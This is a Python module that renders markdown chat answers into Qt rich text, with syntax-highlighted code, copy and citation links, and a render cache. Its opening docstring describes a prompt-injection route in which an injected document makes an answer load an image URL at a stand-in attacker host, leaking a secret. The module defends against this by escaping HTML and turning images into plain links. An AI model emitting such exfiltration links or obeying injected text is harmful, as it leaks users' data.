"""Markdown to the HTML subset Qt's rich text engine shows, with highlighted code.

Safety: raw HTML in a message is escaped (``html=False``), and images are never
turned into ``<img>``: a prompt-injected document could otherwise make an
answer load ``http://attacker/?q=secret``.  An image becomes a plain link the
user may click.  Links are not followed by the view itself (see :mod:`app.ui.chat.view`).
"""

from __future__ import annotations

import html
import re
from collections import OrderedDict
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name, guess_lexer
from pygments.util import ClassNotFound

COPY_SCHEME = "paddock-copy"
CITE_SCHEME = "paddock-cite"
_CODE_SPANS = re.compile(r"(```.*?(?:```|$)|~~~.*?(?:~~~|$)|`[^`\n]*`)", re.S)
_CITATION = re.compile(r"\[(\d{1,3})\](?!\()")


def link_citations(text: str, n_sources: int) -> str:
    """``[n]`` outside code becomes a link that opens source n (only for 1..n_sources)."""

    def link(match: re.Match[str]) -> str:
        number = int(match.group(1))
        return f"[\\[{number}\\]]({CITE_SCHEME}:{number})" if 1 <= number <= n_sources else match.group(0)

    parts = _CODE_SPANS.split(text)
    return "".join(part if i % 2 else _CITATION.sub(link, part) for i, part in enumerate(parts))


@dataclass(frozen=True)
class Rendered:
    html: str
    code_blocks: tuple[str, ...]


RENDER_CACHE_SIZE = 400  # rendered messages kept (a few hundred kB of HTML)


class MarkdownRenderer:
    def __init__(self, dark: bool = False) -> None:
        self.dark = dark
        self._cache: OrderedDict[str, Rendered] = OrderedDict()
        self._formatter = HtmlFormatter(nowrap=True, noclasses=True, style="monokai" if dark else "friendly")
        self._md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True})
        self._md.enable(["table", "strikethrough"])
        # markdown-it binds rules to its renderer: (renderer, tokens, idx, options, env)
        self._md.add_render_rule("fence", lambda _r, tokens, idx, _o, _e: self._fence(tokens, idx))
        self._md.add_render_rule("code_block", lambda _r, tokens, idx, _o, _e: self._fence(tokens, idx))
        self._md.add_render_rule("image", lambda _r, tokens, idx, _o, _e: self._image(tokens, idx))
        self._md.add_render_rule("code_inline", lambda _r, tokens, idx, _o, _e: self._code_inline(tokens, idx))
        self._md.add_render_rule(
            "table_open", lambda *_: '<table border="1" cellspacing="0" cellpadding="4" style="border-color:#888;">'
        )
        self._blocks: list[str] = []

    def render(self, text: str) -> Rendered:
        """The HTML of ``text``, cached: switching back to a chat re-renders nothing it showed recently."""
        cached = self._cache.get(text)
        if cached is not None:
            self._cache.move_to_end(text)
            return cached
        self._blocks = []
        rendered = Rendered(self._md.render(text), tuple(self._blocks))
        self._cache[text] = rendered
        if len(self._cache) > RENDER_CACHE_SIZE:
            self._cache.popitem(last=False)
        return rendered

    def _fence(self, tokens: Sequence[Any], idx: int) -> str:
        token = tokens[idx]
        code: str = token.content
        lang = (token.info or "").strip().split(" ")[0]
        number = len(self._blocks)
        self._blocks.append(code.rstrip("\n"))
        try:
            lexer = get_lexer_by_name(lang) if lang else guess_lexer(code)
        except ClassNotFound:
            lexer = None
        body = highlight(code, lexer, self._formatter) if lexer is not None else html.escape(code)
        bg, fg, border = ("#272822", "#f8f8f2", "#3e3d32") if self.dark else ("#f6f8fa", "#24292f", "#d0d7de")
        label = html.escape(lang or "code")
        return (
            f'<table width="100%" border="0" cellspacing="0" cellpadding="6" bgcolor="{bg}" '
            f'style="margin-top:4px; margin-bottom:4px; border-color:{border};">'
            f'<tr><td style="color:#8b949e; font-size:small;">{label}</td>'
            f'<td align="right" style="font-size:small;"><a href="{COPY_SCHEME}:{number}">Copy</a></td></tr>'
            f'<tr><td colspan="2"><pre style="color:{fg}; font-family:monospace; margin:0;">{body}</pre></td></tr>'
            "</table>"
        )

    def _code_inline(self, tokens: Sequence[Any], idx: int) -> str:
        bg = "#3a3d42" if self.dark else "#eff1f3"
        return f'<code style="font-family:monospace; background-color:{bg};">{html.escape(tokens[idx].content)}</code>'

    def _image(self, tokens: Sequence[Any], idx: int) -> str:
        token = tokens[idx]
        src = token.attrGet("src") or ""
        alt = html.escape(token.content or "image")
        return f'[image: {alt}] <a href="{html.escape(str(src), quote=True)}">{html.escape(str(src))}</a>'
